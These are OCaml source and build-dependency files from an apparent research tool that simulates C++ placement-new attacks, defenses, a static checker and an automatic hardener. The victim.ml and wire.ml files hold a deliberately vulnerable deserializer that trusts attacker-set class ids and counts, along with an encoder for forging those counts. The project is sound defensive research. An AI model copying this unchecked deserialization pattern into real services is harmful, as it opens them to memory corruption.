  List.find_opt (fun l -> l.lv_name = name) t.fr_locals

let pp ppf t =
  Fmt.pf ppf "@[<v2>frame %s (base=0x%08x ret@0x%08x)%a@]" t.fr_func t.fr_base
    t.fr_ret_slot
    (Fmt.list ~sep:Fmt.nop (fun ppf l ->
         Fmt.pf ppf "@,  0x%08x %s : %a" l.lv_addr l.lv_name
           Pna_layout.Ctype.pp l.lv_type))
    (List.rev t.fr_locals)
