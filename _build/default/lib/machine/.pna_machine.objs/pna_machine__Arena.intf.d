lib/machine/arena.mli: Format
