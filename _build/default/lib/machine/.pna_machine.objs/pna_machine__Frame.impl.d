lib/machine/frame.ml: Fmt List Pna_layout
