lib/machine/heap.ml: Fmt Pna_vmem
