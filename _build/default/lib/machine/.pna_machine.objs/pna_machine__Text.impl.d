lib/machine/text.ml: Fmt Hashtbl List
