lib/machine/text.mli:
