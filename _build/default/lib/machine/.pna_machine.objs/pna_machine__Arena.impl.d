lib/machine/arena.ml: Fmt List Option
