lib/machine/event.ml: Fmt
