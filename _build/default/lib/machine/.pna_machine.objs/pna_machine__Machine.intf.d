lib/machine/machine.mli: Arena Event Format Frame Heap Pna_defense Pna_layout Pna_vmem
