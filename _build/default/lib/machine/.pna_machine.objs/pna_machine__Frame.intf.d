lib/machine/frame.mli: Format Pna_layout
