lib/machine/heap.mli: Format Pna_vmem
