lib/machine/machine.ml: Arena Char Ctype Event Fmt Frame Hashtbl Heap Layout List Option Perm Pna_defense Pna_layout Pna_vmem Segment String Text Vmem
