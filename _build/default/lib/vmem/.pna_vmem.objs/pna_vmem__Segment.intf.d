lib/vmem/segment.mli: Bytes Format Perm
