lib/vmem/vmem.ml: Array Buffer Char Fault Fmt Int64 List Perm Segment String
