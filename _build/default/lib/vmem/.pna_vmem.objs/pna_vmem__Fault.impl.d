lib/vmem/fault.ml: Fmt
