lib/vmem/segment.ml: Bytes Char Fmt Perm
