lib/vmem/perm.ml: Fmt
