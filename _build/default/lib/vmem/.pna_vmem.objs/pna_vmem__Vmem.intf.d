lib/vmem/vmem.mli: Format Perm Segment
