(** Memory faults raised by the simulated address space.

    These play the role of hardware traps (SIGSEGV and friends) in the real
    process the paper attacks. The interpreter catches them and converts
    them into run outcomes. *)

type access = Read | Write | Execute

type t =
  | Unmapped of int * access      (** no segment maps this address *)
  | Protection of int * access    (** segment exists, permission denied *)
  | Misaligned of int * int       (** address, required alignment *)
  | Null_placement                (** placement new on a null address *)

exception Fault of t

let pp_access ppf = function
  | Read -> Fmt.string ppf "read"
  | Write -> Fmt.string ppf "write"
  | Execute -> Fmt.string ppf "execute"

let pp ppf = function
  | Unmapped (a, k) -> Fmt.pf ppf "segfault: %a of unmapped address 0x%08x" pp_access k a
  | Protection (a, k) -> Fmt.pf ppf "segfault: %a violates protection at 0x%08x" pp_access k a
  | Misaligned (a, al) -> Fmt.pf ppf "bus error: 0x%08x not aligned to %d" a al
  | Null_placement -> Fmt.string ppf "placement new at null address"

let to_string t = Fmt.str "%a" pp t

let raise_ t = raise (Fault t)
