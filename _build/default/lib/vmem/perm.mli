(** Page-style permissions for a memory segment. *)

type t = { read : bool; write : bool; execute : bool }

val rw : t
val rwx : t
val rx : t
val ro : t
val none : t

val pp : Format.formatter -> t -> unit
(** [pp] renders like [ls -l]: e.g. ["rw-"]. *)

val to_string : t -> string
