(** Page-style permissions for a memory segment.

    The simulated machine uses them the same way an MMU would: every access
    is checked against the owning segment's permissions, and a violation
    raises {!Fault.Fault}. *)

type t = { read : bool; write : bool; execute : bool }

let rw = { read = true; write = true; execute = false }
let rwx = { read = true; write = true; execute = true }
let rx = { read = true; write = false; execute = true }
let ro = { read = true; write = false; execute = false }
let none = { read = false; write = false; execute = false }

let pp ppf t =
  Fmt.pf ppf "%c%c%c"
    (if t.read then 'r' else '-')
    (if t.write then 'w' else '-')
    (if t.execute then 'x' else '-')

let to_string t = Fmt.str "%a" pp t
