(** Memory faults raised by the simulated address space — the simulator's
    SIGSEGV/SIGBUS. *)

type access = Read | Write | Execute

type t =
  | Unmapped of int * access  (** no segment maps this address *)
  | Protection of int * access  (** segment exists, permission denied *)
  | Misaligned of int * int  (** address, required alignment *)
  | Null_placement  (** placement new at a null address *)

exception Fault of t

val pp_access : Format.formatter -> access -> unit
val pp : Format.formatter -> t -> unit
val to_string : t -> string

val raise_ : t -> 'a
(** [raise_ f] raises {!Fault}[ f]. *)
