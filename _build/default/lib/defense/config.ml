(** Defense configurations (§5 of the paper).

    A configuration selects which protection mechanisms the simulated
    machine applies while a program runs. The experiment harness sweeps
    attacks against these configurations to regenerate the paper's
    qualitative results: StackGuard catches the naive smash but not the
    selective overwrite; bounds-checked placement and the shadow stack stop
    the respective attack families; sanitization stops the information
    leaks. *)

type t = {
  name : string;
  save_frame_pointer : bool;
      (** push the caller's frame pointer below the return address *)
  stack_protector : bool;
      (** StackGuard: canary word between locals and control data, verified
          at function epilogue (Cowan et al., gcc -fstack-protector) *)
  shadow_stack : bool;
      (** return-address stack kept outside the addressable image; a return
          to any other address is blocked (§5.2 "return address stack") *)
  bounds_check_placement : bool;
      (** libsafe-style interposition on placement new: refuse to place an
          object larger than the arena backing the target address (§5.1
          "correct coding" enforced at runtime) *)
  sanitize_on_place : bool;
      (** memset the arena before reuse, closing the §4.3 information
          leaks *)
  placement_delete : bool;
      (** track pool occupancy and reclaim the full arena on delete,
          closing the §4.5 memory leaks *)
  nx_stack : bool;  (** non-executable stack: code injection faults *)
  strict_alignment : bool;
      (** fault on misaligned placement, as a strict-alignment ISA would
          (§2.5: "it may lead to incorrect semantics, and to program
          termination") *)
  canary_value : int;
}

let baseline =
  {
    name = "none";
    save_frame_pointer = true;
    stack_protector = false;
    shadow_stack = false;
    bounds_check_placement = false;
    sanitize_on_place = false;
    placement_delete = false;
    nx_stack = false;
    strict_alignment = false;
    canary_value = 0x000aff0d;
    (* terminator-style canary: contains NUL, CR-ish bytes *)
  }

let none = baseline
let stackguard = { baseline with name = "stackguard"; stack_protector = true }

let shadow_stack =
  { baseline with name = "shadow-stack"; shadow_stack = true }

let bounds_check =
  { baseline with name = "bounds-check"; bounds_check_placement = true }

let sanitize = { baseline with name = "sanitize"; sanitize_on_place = true }

let pool_discipline =
  { baseline with name = "pool-discipline"; placement_delete = true }

let nx = { baseline with name = "nx-stack"; nx_stack = true }

let strict_align =
  { baseline with name = "strict-align"; strict_alignment = true }

let full =
  {
    baseline with
    name = "full";
    stack_protector = true;
    shadow_stack = true;
    bounds_check_placement = true;
    sanitize_on_place = true;
    placement_delete = true;
    nx_stack = true;
    strict_alignment = true;
  }

(** The sweep used by experiment E8's attack-by-defense matrix. *)
let all = [ none; stackguard; shadow_stack; bounds_check; sanitize; nx; full ]

let by_name n =
  List.find_opt (fun c -> c.name = n) (pool_discipline :: strict_align :: all)

let pp ppf t =
  let flag b s = if b then Some s else None in
  let flags =
    List.filter_map Fun.id
      [
        flag t.stack_protector "stackguard";
        flag t.shadow_stack "shadow-stack";
        flag t.bounds_check_placement "bounds-check";
        flag t.sanitize_on_place "sanitize";
        flag t.placement_delete "pool-discipline";
        flag t.nx_stack "nx";
        flag t.strict_alignment "strict-align";
      ]
  in
  Fmt.pf ppf "%s{%a}" t.name (Fmt.list ~sep:Fmt.comma Fmt.string) flags
