lib/defense/config.mli: Format
