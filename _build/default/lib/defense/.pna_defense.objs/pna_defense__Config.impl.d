lib/defense/config.ml: Fmt Fun List
