(** Defense configurations (§5 of the paper): which protection mechanisms
    the simulated machine applies while a program runs. *)

type t = {
  name : string;
  save_frame_pointer : bool;
  stack_protector : bool;  (** StackGuard canary, verified at epilogue *)
  shadow_stack : bool;  (** out-of-band return-address stack (§5.2) *)
  bounds_check_placement : bool;  (** libsafe-style placement interposition *)
  sanitize_on_place : bool;  (** wipe the arena before reuse (§4.3) *)
  placement_delete : bool;  (** pool discipline closing §4.5 leaks *)
  nx_stack : bool;  (** writable segments are not executable *)
  strict_alignment : bool;  (** fault on misaligned placement (§2.5) *)
  canary_value : int;
}

val none : t
(** Everything off (frame pointer still saved) — the paper's target. *)

val stackguard : t
val shadow_stack : t
val bounds_check : t
val sanitize : t
val pool_discipline : t
val nx : t
val strict_align : t
val full : t

val all : t list
(** The E8 sweep: none, stackguard, shadow-stack, bounds-check, sanitize,
    nx-stack, full. *)

val by_name : string -> t option
val pp : Format.formatter -> t -> unit
