(** The receiving side of the wire format: MiniC++ classes and the
    deserializer a careless service would ship (§2.1 use case 4 /
    §3.2: "placement new is used to populate an object or a data structure
    from a serialized instance").

    Contract: the embedding program defines a global [pool] — the arena
    the service reuses per request, sized for a [NetStudent] — and links
    [deserialize_func] (which expects the raw datagram address as its
    parameter). The vulnerable variant trusts the wire's class id and
    course count; the [~checked:true] variant applies §5.1 correct coding
    (size check with rejection, count clamping). *)

open Pna_layout
open Pna_minicpp.Dsl

let net_student =
  Class_def.v "NetStudent"
    [ ("gpa", double); ("year", int); ("semester", int) ]

let net_grad_student =
  Class_def.v "NetGradStudent" ~bases:[ "NetStudent" ]
    [ ("ssn", int_arr 3); ("courses", int_arr 4) ]

let classes = [ net_student; net_grad_student ]

(* read a u32 / f64 out of the datagram *)
let rd32 buf off = deref (cast (ptr int) (v buf +: i off))
let rd64 buf off = deref (cast (ptr double) (v buf +: i off))

let deserialize_func ~checked =
  let read_common obj =
    [
      set (arrow (v obj) "gpa") (rd64 "buf" Wire.off_gpa);
      set (arrow (v obj) "year") (rd32 "buf" Wire.off_year);
      set (arrow (v obj) "semester") (rd32 "buf" Wire.off_semester);
    ]
  in
  let grad_body =
    [
      decli "gs" (ptr (cls "NetGradStudent")) (pnew (v "pool") (cls "NetGradStudent") []);
    ]
    @ read_common "gs"
    @ [
        set (idx (arrow (v "gs") "ssn") (i 0)) (rd32 "buf" Wire.off_ssn);
        set (idx (arrow (v "gs") "ssn") (i 1)) (rd32 "buf" (Wire.off_ssn + 4));
        set (idx (arrow (v "gs") "ssn") (i 2)) (rd32 "buf" (Wire.off_ssn + 8));
        decli "n" int (rd32 "buf" Wire.off_course_count);
      ]
    @ (if checked then [ when_ (v "n" >: i 4) [ set (v "n") (i 4) ] ] else [])
    @ [
        for_
          (decli "j" int (i 0))
          (v "j" <: v "n")
          (set (v "j") (v "j" +: i 1))
          [
            set
              (idx (arrow (v "gs") "courses") (v "j"))
              (deref
                 (cast (ptr int) (v "buf" +: (i Wire.off_courses +: (v "j" *: i 4)))));
          ];
      ]
  in
  let grad_branch =
    if checked then
      (* §5.1: the arena is sized for a NetStudent; a larger class must be
         rejected, not placed *)
      [
        if_
          (sizeof (cls "NetGradStudent") <=: sizeof (cls "NetStudent"))
          grad_body
          [ set (v "rejected") (v "rejected" +: i 1); ret0 ];
      ]
    else grad_body
  in
  func "deserialize" ~params:[ ("buf", char_p) ]
    [
      decli "id" int (rd32 "buf" 0);
      if_
        (v "id" ==: i Wire.student_id)
        (decli "st" (ptr (cls "NetStudent")) (pnew (v "pool") (cls "NetStudent") [])
         :: read_common "st")
        grad_branch;
      set (v "served") (v "served" +: i 1);
    ]

(* The globals the deserializer needs. [pool_global] must come first in
   the embedding program so the attack's sentinel globals sit directly
   after the pool; [state_globals] can go anywhere after them. *)
let pool_global = global "pool" (char_arr 16)
(* sized for exactly one NetStudent *)

let state_globals = [ global "served" int; global "rejected" int ]
