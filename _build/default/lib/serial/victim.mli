(** The receiving side of the wire format: MiniC++ classes and the
    deserializer a careless service would ship.

    Contract: the embedding program's globals start with {!pool_global}
    (so attack sentinels can sit directly after the pool) and include
    {!state_globals}; the service function expects the raw datagram
    address as its parameter. *)

val net_student : Pna_layout.Class_def.t
val net_grad_student : Pna_layout.Class_def.t
val classes : Pna_layout.Class_def.t list

val deserialize_func : checked:bool -> Pna_minicpp.Ast.func
(** The service. [~checked:false] trusts the wire's class id and course
    count (§3.2); [~checked:true] applies §5.1 correct coding: oversize
    classes are rejected, counts clamped. *)

val pool_global : Pna_minicpp.Ast.global
(** [char pool\[16\]] — sized for exactly one NetStudent. *)

val state_globals : Pna_minicpp.Ast.global list
(** [served] and [rejected] counters. *)
