(** The object wire format of the enrollment service (§3.2): little-endian
    class id + fields; NetGradStudent datagrams carry SSN words and a
    count-prefixed course list. The receiver trusts the class id and the
    count — the two fields this module lets an attacker inflate. *)

val student_id : int
val grad_student_id : int

(** Field offsets within a datagram, shared with the MiniC++ deserializer. *)

val off_gpa : int
val off_year : int
val off_semester : int
val off_ssn : int
val off_course_count : int
val off_courses : int

type t = {
  class_id : int;
  gpa : float;
  year : int;
  semester : int;
  ssn : int array;
  courses : int list;
  claimed_courses : int option;  (** override the count field — the lie *)
}

val student : ?gpa:float -> ?year:int -> ?semester:int -> unit -> t

val grad_student :
  ?gpa:float ->
  ?year:int ->
  ?semester:int ->
  ?ssn:int array ->
  ?courses:int list ->
  ?claimed_courses:int ->
  unit ->
  t

val encode : t -> string
(** Raw bytes (may contain NULs; deliver via the [recv] builtin). *)

val size : t -> int
val pp : Format.formatter -> t -> unit

(** Little-endian encoding helpers. *)

val le32 : int -> string
val le64 : int64 -> string
val f64 : float -> string
