lib/serial/victim.mli: Pna_layout Pna_minicpp
