lib/serial/wire.mli: Format
