lib/serial/victim.ml: Class_def Pna_layout Pna_minicpp Wire
