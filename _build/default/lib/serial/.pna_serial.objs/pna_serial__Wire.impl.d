lib/serial/wire.ml: Array Buffer Char Fmt Int64 List Option String
