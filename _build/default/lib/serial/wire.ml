(** The object wire format of the enrollment "web service" — the §3.2
    scenario: objects serialized by a (possibly malicious) remote peer and
    re-materialized by the receiver with placement new.

    Little-endian layout:

    {v
      +0   class id      u32   (1 = NetStudent, 2 = NetGradStudent)
      +4   gpa           f64
      +12  year          u32
      +16  semester      u32
      --- NetGradStudent only ---
      +20  ssn[0..2]     3 x u32
      +32  course count  u32
      +36  courses       count x u32
    v}

    The receiver trusts both the class id and the course count — the two
    fields this module lets an attacker inflate. *)

let student_id = 1
let grad_student_id = 2

(* field offsets, shared with the MiniC++ deserializer in {!Victim} *)
let off_gpa = 4
let off_year = 12
let off_semester = 16
let off_ssn = 20
let off_course_count = 32
let off_courses = 36

let le32 v =
  String.init 4 (fun k -> Char.chr ((v lsr (8 * k)) land 0xff))

let le64 v =
  String.init 8 (fun k ->
      Char.chr (Int64.to_int (Int64.shift_right_logical v (8 * k)) land 0xff))

let f64 v = le64 (Int64.bits_of_float v)

type t = {
  class_id : int;
  gpa : float;
  year : int;
  semester : int;
  ssn : int array;  (** used when class_id = 2; length 3 *)
  courses : int list;  (** the *encoded* count precedes them *)
  claimed_courses : int option;
      (** override the count field — the attacker's lie *)
}

let student ?(gpa = 3.0) ?(year = 2010) ?(semester = 1) () =
  {
    class_id = student_id;
    gpa;
    year;
    semester;
    ssn = [| 0; 0; 0 |];
    courses = [];
    claimed_courses = None;
  }

let grad_student ?(gpa = 3.5) ?(year = 2009) ?(semester = 2)
    ?(ssn = [| 123; 456; 789 |]) ?(courses = []) ?claimed_courses () =
  {
    class_id = grad_student_id;
    gpa;
    year;
    semester;
    ssn;
    courses;
    claimed_courses;
  }

(** Serialize to raw bytes (may contain NULs; deliver with the [recv]
    builtin). *)
let encode t =
  let b = Buffer.create 64 in
  Buffer.add_string b (le32 t.class_id);
  Buffer.add_string b (f64 t.gpa);
  Buffer.add_string b (le32 t.year);
  Buffer.add_string b (le32 t.semester);
  if t.class_id = grad_student_id then begin
    Array.iter (fun s -> Buffer.add_string b (le32 s)) t.ssn;
    let count = Option.value t.claimed_courses ~default:(List.length t.courses) in
    Buffer.add_string b (le32 count);
    List.iter (fun c -> Buffer.add_string b (le32 c)) t.courses
  end;
  Buffer.contents b

let size t = String.length (encode t)

let pp ppf t =
  Fmt.pf ppf "wire{id=%d gpa=%g year=%d sem=%d ssn=[%a] courses=%d%a}"
    t.class_id t.gpa t.year t.semester
    Fmt.(array ~sep:comma int)
    t.ssn
    (List.length t.courses)
    Fmt.(option (fun ppf c -> Fmt.pf ppf " claimed=%d" c))
    t.claimed_courses
