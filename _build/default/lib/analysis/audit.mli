(** Run both static checkers over a program and summarize — the engine
    behind experiment E7. *)

type report = {
  placement : Finding.t list;  (** our placement-new checker *)
  legacy : Finding.t list;  (** the string-op baseline *)
}

val analyze : Pna_minicpp.Ast.program -> report
val actionable : Finding.t list -> Finding.t list

val flags : Finding.kind list -> Finding.t list -> bool
(** Is there an actionable finding of one of these kinds? *)

val overflow_kinds : Finding.kind list
val leak_kinds : Finding.kind list
val memleak_kinds : Finding.kind list

val relevant_kinds : string -> Finding.kind list
(** The finding kinds that would catch the defect behind a given attack
    id (leak attacks need leak findings, etc.). *)

val pp_report : Format.formatter -> report -> unit
