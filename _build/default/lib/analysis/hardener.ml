(** Automatic repair — the second half of the paper's §7 future work ("a
    tool for ... detecting vulnerabilities due to placement new, and
    automatically addressing these vulnerabilities").

    Source-to-source transformation applying §5.1 correct coding:

    - every placement new is wrapped in a bounds guard against the backing
      arena (via the [__arena_size] intrinsic, the source-level spelling of
      libsafe's interposition); when the guard fails, the §5.1 fallback —
      the non-placement [new] — is used instead;
    - the arena is sanitized ([memset] of its full remaining extent) before
      reuse, closing the §4.3 information leaks;
    - [delete\[T\] p] (the placed delete of §4.5) becomes a real [delete],
      returning the whole block to the allocator.

    The transform is deliberately local and syntactic: it repairs the
    placement discipline, not program logic — a copy loop that overruns a
    *correctly placed* object (Listings 6/10) is out of scope, exactly as
    it is for the runtime bounds-check defense. *)

module Ast = Pna_minicpp.Ast

let arena_size_of place = Ast.Call ("__arena_size", [ place ])

(* the footprint expression of a placement, in the exact shape the checker
   recognizes as a guard (structural equality) *)
let footprint = function
  | Ast.Pnew (_, ty, _) -> Ast.Sizeof ty
  | Ast.Pnew_arr (_, ty, n) -> Ast.Bin (Ast.Mul, n, Ast.Sizeof ty)
  | _ -> invalid_arg "Hardener.footprint"

let fallback = function
  | Ast.Pnew (_, ty, args) -> Ast.New (ty, args)
  | Ast.Pnew_arr (_, ty, n) -> Ast.New_arr (ty, n)
  | e -> e

let place_of = function
  | Ast.Pnew (p, _, _) | Ast.Pnew_arr (p, _, _) -> p
  | _ -> invalid_arg "Hardener.place_of"

(* wrap one placement-producing statement builder into the guarded form:
     memset(place, 0, __arena_size(place));
     if (__arena_size(place) >= <footprint>) <stmt with placement>
     else <stmt with heap fallback> *)
let guard pnew ~with_placement ~with_fallback =
  let place = place_of pnew in
  [
    Ast.Expr
      (Ast.Call ("memset", [ place; Ast.Int 0; arena_size_of place ]));
    Ast.If
      ( Ast.Bin (Ast.Ge, arena_size_of place, footprint pnew),
        with_placement,
        with_fallback );
  ]

let is_placement = function
  | Ast.Pnew _ | Ast.Pnew_arr _ -> true
  | _ -> false

(* Rewrite one statement into one-or-more hardened statements. Placements
   nested in other expression positions are left alone: the catalogue (and
   idiomatic C++) binds placement results directly. *)
let rec harden_stmt (s : Ast.stmt) : Ast.stmt list =
  match s with
  | Ast.Decl (x, ty, Some pnew) when is_placement pnew ->
    (* T *x = new (place) C(...)  -->  declare, then guarded assignment *)
    Ast.Decl (x, ty, None)
    :: guard pnew
         ~with_placement:[ Ast.Assign (Ast.Var x, pnew) ]
         ~with_fallback:[ Ast.Assign (Ast.Var x, fallback pnew) ]
  | Ast.Assign (lv, pnew) when is_placement pnew ->
    guard pnew
      ~with_placement:[ Ast.Assign (lv, pnew) ]
      ~with_fallback:[ Ast.Assign (lv, fallback pnew) ]
  | Ast.Expr pnew when is_placement pnew ->
    guard pnew
      ~with_placement:[ Ast.Expr pnew ]
      ~with_fallback:[ Ast.Expr (fallback pnew) ]
  | Ast.Delete_placed (e, _) ->
    (* §4.5: release the whole arena through the allocator *)
    [ Ast.Delete e ]
  | Ast.If (c, t, f) -> [ Ast.If (c, harden_block t, harden_block f) ]
  | Ast.While (c, b) -> [ Ast.While (c, harden_block b) ]
  | Ast.For (init, c, step, b) ->
    (* init/step are simple statements; placements do not occur there in
       any program we accept *)
    [ Ast.For (init, c, step, harden_block b) ]
  | Ast.Decl _ | Ast.Decl_obj _ | Ast.Assign _ | Ast.Expr _ | Ast.Return _
  | Ast.Delete _ | Ast.Cout _ ->
    [ s ]

and harden_block body = List.concat_map harden_stmt body

let harden_func (fn : Ast.func) =
  { fn with Ast.fn_body = harden_block fn.Ast.fn_body }

(** Apply the §5.1 repairs to every function of the program. *)
let harden (p : Ast.program) : Ast.program =
  { p with Ast.p_funcs = List.map harden_func p.Ast.p_funcs }

(* How many repairs would be applied — for reporting. *)
let count_repairs (p : Ast.program) =
  Ast.fold_program
    (fun acc s ->
      match s with
      | Ast.Decl (_, _, Some e) when is_placement e -> acc + 1
      | Ast.Assign (_, e) when is_placement e -> acc + 1
      | Ast.Expr e when is_placement e -> acc + 1
      | Ast.Delete_placed _ -> acc + 1
      | _ -> acc)
    (fun acc _ -> acc)
    0 p
