(** Automatic repair — the paper's §7 "automatically addressing these
    vulnerabilities": wrap every placement new in an [__arena_size] bounds
    guard with the §5.1 heap-new fallback, sanitize arenas before reuse,
    and turn placed deletes into real deletes.

    Scope: repairs the placement discipline, not program logic — copy
    loops that overrun a correctly placed object (Listings 6/10) survive,
    exactly as they survive the runtime bounds-check defense; the checker
    still reports them on the hardened output. *)

val harden : Pna_minicpp.Ast.program -> Pna_minicpp.Ast.program

val harden_func : Pna_minicpp.Ast.func -> Pna_minicpp.Ast.func

val count_repairs : Pna_minicpp.Ast.program -> int
(** Number of sites {!harden} would rewrite. *)
