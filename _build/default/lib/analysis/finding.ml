(** Findings produced by the static checkers. *)

type kind =
  | Overflow_certain  (** placed footprint provably exceeds the arena *)
  | Overflow_possible  (** placed footprint may exceed the arena *)
  | Tainted_size  (** attacker input reaches a placement/copy size *)
  | Copy_overflow  (** remote-bounded copy loop writes past a fixed member *)
  | Info_leak  (** smaller object placed over unsanitized larger arena *)
  | Memory_leak  (** placement delete mismatch strands arena bytes *)
  | Misalignment  (** placement target's alignment is weaker than required *)
  | Unchecked_placement  (** informational: placement with no size guard *)
  | String_misuse  (** legacy-checker finding: risky string builtin *)

type severity = High | Medium | Info

let severity_of = function
  | Overflow_certain | Tainted_size -> High
  | Overflow_possible | Copy_overflow | Info_leak | Memory_leak
  | Misalignment ->
    Medium
  | Unchecked_placement | String_misuse -> Info

let kind_name = function
  | Overflow_certain -> "overflow-certain"
  | Overflow_possible -> "overflow-possible"
  | Tainted_size -> "tainted-size"
  | Copy_overflow -> "copy-overflow"
  | Info_leak -> "info-leak"
  | Memory_leak -> "memory-leak"
  | Misalignment -> "misalignment"
  | Unchecked_placement -> "unchecked-placement"
  | String_misuse -> "string-misuse"

let severity_name = function High -> "HIGH" | Medium -> "MEDIUM" | Info -> "info"

type t = {
  kind : kind;
  func : string;  (** function containing the flagged statement *)
  message : string;
}

let v kind func fmt = Fmt.kstr (fun message -> { kind; func; message }) fmt

let severity t = severity_of t.kind

let pp ppf t =
  Fmt.pf ppf "[%s] %s in %s: %s"
    (severity_name (severity t))
    (kind_name t.kind) t.func t.message

let actionable t = severity t <> Info
