(** A baseline modelled on the pre-2011 string-operation checkers the
    paper surveys (ITS4, Flawfinder, ...). It warns about [strcpy] and can
    compare a literal [strncpy]/[memcpy] length against a lexically
    declared array — and has no model of placement new at all, which is
    the paper's point. *)

val analyze : Pna_minicpp.Ast.program -> Finding.t list
val actionable : Pna_minicpp.Ast.program -> Finding.t list
