(** The placement-new vulnerability detector — the static analysis tool
    the paper announces as future work (§7), enforcing the §5.1
    correct-coding rules.

    One forward abstract-interpretation pass per function: placement sites
    are bounds-checked against their arena; [cin] and remote pointer
    parameters taint sizes; constant-foldable [sizeof] guards prune
    branches; [if (x > bound) return] refines [x]; a detected overflow
    distrusts previously-established bounds (exposing the §4.1 two-step
    attacks); remote-bounded copy loops, unsanitized smaller-over-larger
    placements and placement-delete mismatches are flagged. *)

val analyze : ?interproc:bool -> Pna_minicpp.Ast.program -> Finding.t list
(** All findings, including the informational audit trail, in program
    order. With [~interproc:true], abstract arguments are propagated
    through the call graph to a fixpoint first: placements through
    passed-in pointers get sharp verdicts instead of "arena unknown", and
    callee parameters only count as attacker-reachable when attacker data
    actually flows to a call site. *)

val actionable : ?interproc:bool -> Pna_minicpp.Ast.program -> Finding.t list
(** High/Medium findings only. *)
