(** Abstract domain shared by the static checkers.

    Sizes and counts are tracked as: exactly known, bounded above (after a
    recognized guard), attacker-tainted, or unknown. Pointers are tracked
    as regions with a byte size and, when known, the class of the object at
    their base — enough to decide whether a placement fits its arena and
    whether an indexed copy fits a member array. *)

type size =
  | Known of int
  | Bounded of int  (** <= the bound (guard-refined) *)
  | Tainted  (** influenced by attacker input *)
  | Unknown

let pp_size ppf = function
  | Known n -> Fmt.pf ppf "=%d" n
  | Bounded n -> Fmt.pf ppf "<=%d" n
  | Tainted -> Fmt.string ppf "tainted"
  | Unknown -> Fmt.string ppf "?"

(* Arithmetic over abstract sizes: taint is sticky; bounds survive
   multiplication/addition by non-negative constants. *)
let lift2 op a b =
  match (a, b) with
  | Known x, Known y -> Known (op x y)
  | Tainted, _ | _, Tainted -> Tainted
  (* an upper bound survives the op only when the other operand is a
     non-negative constant (the op is then monotone in the bounded side) *)
  | Bounded x, Known y when y >= 0 -> Bounded (op x y)
  | Known x, Bounded y when x >= 0 -> Bounded (op x y)
  | _ -> Unknown

let add = lift2 ( + )
let mul = lift2 ( * )

(* does a placement/copy of [placed] bytes provably fit in [arena]? *)
type fit = Fits | Overflows | May_overflow | Attacker_controlled | No_idea

let fits ~placed ~arena =
  match (placed, arena) with
  | Known p, Known a -> if p <= a then Fits else Overflows
  | Bounded p, Known a -> if p <= a then Fits else May_overflow
  | Tainted, Known _ -> Attacker_controlled
  | Unknown, Known _ -> May_overflow
  | _, (Bounded _ | Tainted | Unknown) -> No_idea

type region_kind =
  | Global_region of string
  | Local_region of string
  | Member_region of string  (** field of a larger object: "stud1 of player" *)
  | Heap_region
  | Placed_region  (** pointer produced by a placement-new *)
  | Remote_region  (** came in from outside the function/process *)
  | Unknown_region

type region = {
  r_kind : region_kind;
  r_size : size;  (** usable bytes from the region base *)
  r_class : string option;  (** class of the object at base, when known *)
  r_align : int option;  (** alignment guaranteed at base; None = unknown *)
  r_name : string;  (** human-readable, for messages and memset matching *)
}

let region ?class_ ?align ~kind ~size name =
  { r_kind = kind; r_size = size; r_class = class_; r_align = align; r_name = name }

let unknown_region =
  region ~kind:Unknown_region ~size:Unknown "<unknown>"

let remote_region name =
  region ~kind:Remote_region ~size:Unknown name

type aval =
  | Int_v of size
  | Ptr_v of region
  | Other_v

let pp_region ppf r = Fmt.pf ppf "%s(%a)" r.r_name pp_size r.r_size

(* Per-function abstract environment. A plain mutable table: the checkers
   do a single forward pass per function (the listings have no loops whose
   second iteration changes the verdict). *)
type env = { vars : (string, aval) Hashtbl.t; mutable clobbered : bool }

let create_env () = { vars = Hashtbl.create 16; clobbered = false }

let set env x v = Hashtbl.replace env.vars x v

let get env x =
  match Hashtbl.find_opt env.vars x with
  | Some v when env.clobbered -> (
    (* after a detected overflow, any previously-established constant or
       bound may have been overwritten in memory *)
    match v with
    | Int_v (Known _ | Bounded _) -> Int_v Tainted
    | v -> v)
  | Some v -> v
  | None -> Other_v

(* Mark every established fact as attacker-clobberable: called when the
   checker finds an overflowing placement, since from that point on the
   contents of neighbouring variables are not trustworthy. This is what
   lets the checker see through the paper's §4.1 two-step attack. *)
let clobber env = env.clobbered <- true
