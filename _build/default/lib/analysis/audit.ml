(** Run both static checkers over a program and summarize — the engine
    behind experiment E7. *)

module Ast = Pna_minicpp.Ast

type report = {
  placement : Finding.t list;  (** our placement-new checker *)
  legacy : Finding.t list;  (** the string-op baseline *)
}

let analyze prog =
  { placement = Placement_checker.analyze prog; legacy = Legacy_checker.analyze prog }

let actionable fs = List.filter Finding.actionable fs

(* does the report contain an actionable finding of one of [kinds]? *)
let flags kinds fs =
  List.exists (fun f -> Finding.actionable f && List.mem f.Finding.kind kinds) fs

let overflow_kinds =
  Finding.
    [ Overflow_certain; Overflow_possible; Tainted_size; Copy_overflow ]

let leak_kinds = Finding.[ Info_leak ]
let memleak_kinds = Finding.[ Memory_leak ]

(* The vulnerability categories an attack id belongs to, for measuring
   "did the checker flag the *relevant* defect". *)
let relevant_kinds id =
  if String.length id >= 3 && String.sub id 0 3 = "L21" then leak_kinds
  else if String.length id >= 3 && String.sub id 0 3 = "L22" then leak_kinds
  else if String.length id >= 3 && String.sub id 0 3 = "L23" then memleak_kinds
  else overflow_kinds

let pp_report ppf r =
  Fmt.pf ppf
    "@[<v>placement checker: %d findings (%d actionable)@,%a@,legacy checker: \
     %d findings (%d actionable)@,%a@]"
    (List.length r.placement)
    (List.length (actionable r.placement))
    (Fmt.list ~sep:Fmt.cut Finding.pp)
    (actionable r.placement) (List.length r.legacy)
    (List.length (actionable r.legacy))
    (Fmt.list ~sep:Fmt.cut Finding.pp)
    r.legacy
