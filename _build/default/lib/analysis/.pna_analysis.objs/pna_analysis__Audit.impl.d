lib/analysis/audit.ml: Finding Fmt Legacy_checker List Placement_checker Pna_minicpp String
