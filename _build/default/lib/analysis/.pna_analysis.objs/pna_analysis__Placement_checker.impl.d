lib/analysis/placement_checker.ml: Absdom Ctype Finding Fmt Hashtbl Layout List Option Pna_layout Pna_minicpp String
