lib/analysis/placement_checker.mli: Finding Pna_minicpp
