lib/analysis/absdom.ml: Fmt Hashtbl
