lib/analysis/audit.mli: Finding Format Pna_minicpp
