lib/analysis/hardener.ml: List Pna_minicpp
