lib/analysis/legacy_checker.mli: Finding Pna_minicpp
