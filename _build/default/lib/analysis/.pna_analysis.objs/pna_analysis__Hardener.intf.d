lib/analysis/hardener.mli: Pna_minicpp
