lib/analysis/finding.mli: Format
